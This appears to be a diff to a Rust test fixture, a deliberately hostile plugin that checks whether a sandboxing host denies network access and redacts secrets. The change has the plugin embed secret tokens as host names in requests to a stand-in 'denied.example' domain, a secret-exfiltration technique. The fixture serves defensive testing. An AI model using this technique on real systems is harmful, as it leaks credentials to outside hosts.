@@ -7,7 +7,8 @@
 //!   `configFromFile` secret with `"` and `\`) raw, JSON-escaped,
 //!   Debug-escaped, percent-encoded and line by line;
 //! * prints the same to stdout and stderr, which the host captures;
-//! * requests a denied URL whose host name is the token (config `secret`
+//! * requests denied URLs whose host names are the token and config
+//!   `label` (a `configFromEnv` secret short enough for a host name; config `secret`
 //!   is also declared as `config:secret`, an endpoint, so the host looks at
 //!   that secret value as a URL);
 //! * then fails with an error message carrying all of the above, or, with
@@ -80,9 +81,14 @@ impl Provider for HostileText {
         );
         eprintln!("stderr {CONTROLS}\n{FORGED}");
 
-        let denied = format!("https://{token}.denied.example/");
-        if let Err(e) = http::Request::get(&denied).send() {
-            say(&format!("denied as expected: {e}"));
+        // A token is too long for a host name (the host refuses such an
+        // authority before any request exists); config `label`, a shorter
+        // secret, fits and reaches the host's denial.
+        for secret in [token.to_string(), config::get("label").unwrap_or_default()] {
+            let denied = format!("https://{secret}.denied.example/");
+            if let Err(e) = http::Request::get(&denied).send() {
+                say(&format!("denied as expected: {e}"));
+            }
         }
 
         if config::get("succeed").as_deref() == Some("true") {
